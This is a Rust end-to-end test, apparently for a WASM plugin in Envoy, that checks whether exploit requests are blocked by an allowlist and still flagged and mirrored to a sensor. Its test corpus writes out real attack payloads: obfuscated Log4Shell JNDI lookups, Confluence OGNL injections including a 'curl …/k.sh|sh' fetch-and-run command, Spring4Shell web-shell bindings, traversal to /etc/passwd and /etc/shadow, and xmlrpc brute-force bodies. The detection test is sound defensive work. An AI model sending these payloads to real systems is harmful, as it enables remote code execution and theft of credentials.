#![cfg(feature = "e2e")]
//! The one-plugin deployment in a real Envoy (envoy-config/e2e/one_pass.yaml): meshsight.wasm
//! with root id `meshsight` runs allowlist, mirror and audit in one pass.
//!
//! The SOC's deployment from the one-pass issue: the allowlist enforces `GET /public/**` only,
//! the mirror copies signature hits to the sensor (dispatch), the audit sends every record to
//! the collector. About a hundred exploit requests (Log4Shell in many headers and obfuscations,
//! Confluence OGNL CVE-2021-26084/CVE-2022-26134, Spring4Shell, traversal, WordPress xmlrpc, in
//! headers, query and body) all get the allowlist's 403/400 and never reach the upstream, yet
//! every one the signatures know is recorded as an attack and copied to the sensor: exactly the
//! set that the same corpus flags when the allowlist only monitors and everything flows.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::time::Duration;

use meshsight_rig::{send, Collector, EchoUpstream, Envoy, HttpRequest, Sensor};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(20);

fn config(mode: &str) -> String {
    format!(
        r#"{{
  "allowlist": {{"mode": "{mode}", "rules": [{{"name": "public", "methods": ["GET"], "paths": ["/public/**"]}}]}},
  "mirror": {{"targets": {{"ids": {{"cluster": "sensor", "delivery": "dispatch", "max_rps": 10000, "burst": 10000, "max_in_flight": 1000}}}},
             "hold_for_body": true}},
  "audit": {{"format": "ocsf", "sink": {{"http": {{"cluster": "collector", "path": "/v1/audit", "flush_interval_ms": 100}}}}}}
}}"#
    )
}

/// One exploit request of the corpus.
struct Exploit {
    family: &'static str,
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    body: Option<String>,
}

fn get(family: &'static str, target: impl Into<String>) -> Exploit {
    Exploit {
        family,
        method: "GET",
        target: target.into(),
        headers: Vec::new(),
        body: None,
    }
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Exploit requests written from public proofs of concept (Log4Shell obfuscation lists, the
/// Confluence advisories' PoCs, Spring4Shell's `class.module.classLoader` binding, traversal
/// and xmlrpc brute-force requests).
fn corpus() -> Vec<Exploit> {
    let jndi = [
        "${jndi:ldap://203.0.113.5:1389/Exploit}",
        "${jndi:rmi://203.0.113.5:1099/a}",
        "${jndi:dns://203.0.113.5/a}",
        "${${lower:j}ndi:ldap://203.0.113.5/a}",
        "${${upper:j}${upper:n}di:ldap://203.0.113.5/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.5/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.5/a}",
    ];
    let mut list = Vec::new();
    for payload in jndi {
        list.push(get(
            "log4shell",
            format!("/api/search?q={}", encode(payload)),
        ));
        for header in [
            "user-agent",
            "x-api-version",
            "referer",
            "x-forwarded-host",
            "accept-language",
            "authorization",
        ] {
            let mut e = get("log4shell", "/api/v1/items");
            e.headers.push((header, payload.to_string()));
            list.push(e);
        }
        let mut e = get("log4shell", "/login");
        e.headers.push(("cookie", format!("JSESSIONID={payload}")));
        list.push(e);
        list.push(Exploit {
            family: "log4shell",
            method: "POST",
            target: "/login".into(),
            headers: vec![(
                "content-type",
                "application/x-www-form-urlencoded".to_string(),
            )],
            body: Some(format!("username={}&password=x", encode(payload))),
        });
    }
    for cmd in ["id", "whoami", "curl 203.0.113.5/k.sh|sh"] {
        let ognl = format!("${{@java.lang.Runtime@getRuntime().exec(\"{cmd}\")}}");
        list.push(get("confluence_ognl", format!("/{}/", encode(&ognl))));
        list.push(get("confluence_ognl", format!("/wiki/{}/", encode(&ognl))));
    }
    for endpoint in [
        "/pages/doenterpagevariables.action",
        "/pages/createpage-entervariables.action",
        "/pages/createpage.action",
        "/pages/templatevariables.action",
        "/confluence/pages/createpage-entervariables.action",
    ] {
        let payload = "\\u0027+{Class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('1')}+\\u0027";
        list.push(get(
            "confluence_ognl",
            format!("{endpoint}?SpaceKey=x&queryString={}", encode(payload)),
        ));
        list.push(Exploit {
            family: "confluence_ognl",
            method: "POST",
            target: endpoint.to_string(),
            headers: vec![(
                "content-type",
                "application/x-www-form-urlencoded".to_string(),
            )],
            body: Some(format!("queryString={}", encode(payload))),
        });
    }
    for (target, body) in [
        ("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", None),
        ("/greeting?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", None),
        ("/app?class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", None),
        ("/app?class.classLoader.URLs%5B0%5D=0", None),
        ("/greeting", Some("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")),
        ("/app", Some("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar")),
    ] {
        list.push(match body {
            None => get("spring4shell", target),
            Some(body) => Exploit {
                family: "spring4shell",
                method: "POST",
                target: target.to_string(),
                headers: vec![(
                    "content-type",
                    "application/x-www-form-urlencoded".to_string(),
                )],
                body: Some(body.to_string()),
            },
        });
    }
    for target in [
        "/public/../../../../etc/passwd",
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2fetc%2fshadow",
        "/static/..%5c..%5c..%5cwindows%5cwin.ini",
        "/public/..;/..;/WEB-INF/web.xml",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/view?page=....//....//....//proc/self/environ",
        "/public/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/assets/..%252f..%252f..%252fetc%252fpasswd",
        "/files?path=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "/public/....//....//etc/passwd",
        "/include?template=..\\..\\..\\boot.ini",
    ] {
        list.push(get("path_traversal", target));
    }
    for (i, user) in ["admin", "root", "editor", "wp", "test"].iter().enumerate() {
        list.push(Exploit {
            family: "wordpress_xmlrpc",
            method: "POST",
            target: if i % 2 == 0 { "/xmlrpc.php" } else { "/blog/xmlrpc.php" }.to_string(),
            headers: vec![("content-type", "text/xml".to_string())],
            body: Some(format!(
                "<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>{user}</string></value><value><string>pass{i}</string></value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>"
            )),
        });
    }
    list
}

/// The corpus through one Envoy: (status by request id, records by request id, ids copied to
/// the sensor, what reached the upstream).
struct Outcome {
    statuses: HashMap<String, u16>,
    records: BTreeMap<String, Value>,
    copied: BTreeSet<String>,
    upstream_hits: usize,
}

fn run(mode: &str, corpus: &[Exploit]) -> Outcome {
    let upstream = EchoUpstream::start();
    let sensor = Sensor::start();
    let collector = Collector::start();
    let envoy = Envoy::builder("envoy-config/e2e/one_pass.yaml")
        .upstream(&upstream)
        .sensor(&sensor)
        .collector(&collector)
        .var("MESHSIGHT_CONFIG", config(mode))
        .start()
        .unwrap_or_else(|err| panic!("the one-pass plugin must start: {err}"));
    let mut statuses = HashMap::new();
    for (i, e) in corpus.iter().enumerate() {
        let id = format!("{}-{i}", e.family);
        let mut request = HttpRequest::new(e.method, e.target.as_bytes())
            .header("host", "shop.example.com")
            .header("x-request-id", &id);
        for (name, value) in &e.headers {
            request = request.header(name, value);
        }
        if let Some(body) = &e.body {
            request = request.body(body.as_bytes());
        }
        let response = send(envoy.port(), &request);
        statuses.insert(id, response.status);
    }
    let ids: Vec<String> = statuses.keys().cloned().collect();
    let records = collector
        .wait_for_records(&ids, WAIT)
        .unwrap_or_else(|e| panic!("{e}"));
    // Copies are sent on the root's 1 ms tick; give the last ones a moment.
    std::thread::sleep(Duration::from_millis(500));
    let copied = sensor.request_ids();
    Outcome {
        statuses,
        records,
        copied,
        upstream_hits: upstream.requests().len(),
    }
}

fn flagged(outcome: &Outcome) -> BTreeSet<String> {
    outcome
        .records
        .iter()
        .filter(|(_, r)| r["is_alert"] == true)
        .map(|(id, _)| id.clone())
        .collect()
}

#[test]
fn attacks_the_allowlist_stops_are_still_recorded_and_copied() {
    let corpus = corpus();
    assert!(corpus.len() >= 100, "corpus of {}", corpus.len());
    let enforce = run("enforce", &corpus);
    let monitor = run("monitor", &corpus);

    // Enforce: only what the allowlist allowed reaches the upstream (a `....` segment under
    // `/public/` is an odd but allowed name); everything else is answered 403 (or 400 for a
    // malformed target) before it; every request has its record.
    let mut allowed = Vec::new();
    for (id, status) in &enforce.statuses {
        let record = enforce
            .records
            .get(id)
            .unwrap_or_else(|| panic!("no record for {id}"));
        if record["disposition_id"] == 1 {
            assert_eq!(*status, 200, "{id}: allowed: {record}");
            allowed.push(id.clone());
        } else {
            assert!(matches!(status, 400 | 403), "{id}: {status}");
            assert_eq!(
                record["action_id"], 2,
                "{id}: denied (blocked, or rejected as malformed): {record}"
            );
        }
    }
    println!("allowed by the allowlist: {allowed:?}");
    assert_eq!(
        enforce.upstream_hits,
        allowed.len(),
        "the allowlist answers before the upstream"
    );
    assert!(
        allowed.len() <= 2,
        "the corpus is meant to be blocked: {allowed:?}"
    );
    let blocked_flagged = flagged(&enforce);
    let flowing_flagged = flagged(&monitor);
    // What the signatures see does not depend on whether the allowlist stopped the request.
    assert_eq!(
        blocked_flagged, flowing_flagged,
        "flagged when blocked vs flagged when flowing"
    );
    for id in &blocked_flagged {
        let r = &enforce.records[id];
        assert_eq!(r["severity_id"], 4, "{id}: high severity: {r}");
        assert!(enforce.copied.contains(id), "{id}: copied to the sensor");
    }
    assert!(
        enforce.copied.iter().all(|id| blocked_flagged.contains(id)),
        "only flagged requests are copied"
    );
    let mut by_family: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    for (i, e) in corpus.iter().enumerate() {
        let id = format!("{}-{i}", e.family);
        let slot = by_family.entry(e.family).or_default();
        slot.0 += 1;
        slot.1 += usize::from(blocked_flagged.contains(&id));
    }
    println!("blocked and flagged, by family (flagged / sent):");
    for (family, (sent, hit)) in &by_family {
        println!("  {family}: {hit} / {sent}");
    }
    println!(
        "total: {} / {} flagged while blocked, {} copies at the sensor",
        blocked_flagged.len(),
        corpus.len(),
        enforce.copied.len()
    );
    // The built-in signatures cover these families; the known holes are the signatures
    // issue's (obfuscated Log4Shell in some headers, CVE-2021-26084 routes off the list).
    let share = blocked_flagged.len() as f64 / corpus.len() as f64;
    assert!(share >= 0.8, "only {share:.2} of the corpus flagged");
}
